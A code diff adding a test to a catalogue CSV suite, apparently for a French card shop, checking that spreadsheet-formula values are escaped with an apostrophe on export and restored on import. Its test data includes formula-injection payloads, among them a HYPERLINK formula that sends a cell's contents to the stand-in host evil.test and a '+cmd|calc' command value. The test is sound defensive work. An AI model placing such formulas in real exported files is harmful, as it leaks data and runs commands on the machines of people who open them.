@@ -117,6 +117,29 @@ describe("catalogue CSV", () => {
     expect(validateCatalogRow(read.rows[0]!, { now, currentDropTime: product.dropTime })).toEqual({ ok: true, values: fields });
   });
 
+  it("exports names that a spreadsheet would run as formulas behind an apostrophe, and reads them back as they were", () => {
+    const risky = [
+      { ...product, id: 1, title: '=HYPERLINK("http://evil.test/?x="&A1;"clic")', description: "- une puce", series: "@SUM(1+1)" },
+      { ...product, id: 2, title: "+cmd|calc", description: "\t=1+2", series: "'=déjà protégé" },
+      { ...product, id: 3, title: "Dracaufeu = légende", description: "Prix -10 %", series: "Base Set" },
+    ];
+    const text = catalogCsv(risky);
+    const rows = cells(text).slice(1);
+    const column = (name: string) => CATALOG_CSV_COLUMNS.indexOf(name as (typeof CATALOG_CSV_COLUMNS)[number]);
+    expect(rows.map((row) => [row[column("title")], row[column("description")], row[column("series")]])).toEqual([
+      ['\'=HYPERLINK("http://evil.test/?x="&A1;"clic")', "'- une puce", "'@SUM(1+1)"],
+      ["'+cmd|calc", "'\t=1+2", "''=déjà protégé"],
+      ["Dracaufeu = légende", "Prix -10 %", "Base Set"],
+    ]);
+    const read = readCatalogCsv(text);
+    expect(read.errors).toEqual([]);
+    expect(read.rows.map((row) => [row.input.name, row.input.description, row.input.series])).toEqual([
+      ['=HYPERLINK("http://evil.test/?x="&A1;"clic")', "- une puce", "@SUM(1+1)"],
+      ["+cmd|calc", "\t=1+2", "'=déjà protégé"],
+      ["Dracaufeu = légende", "Prix -10 %", "Base Set"],
+    ]);
+  });
+
   it("creates rows without id, in any column order, with comma files and French dates", () => {
     const text = [
       "title,price,stock,category,sub_category,description,image_path,id,status,card_type,series,rarity,condition,featured,drop_time,additional_images",
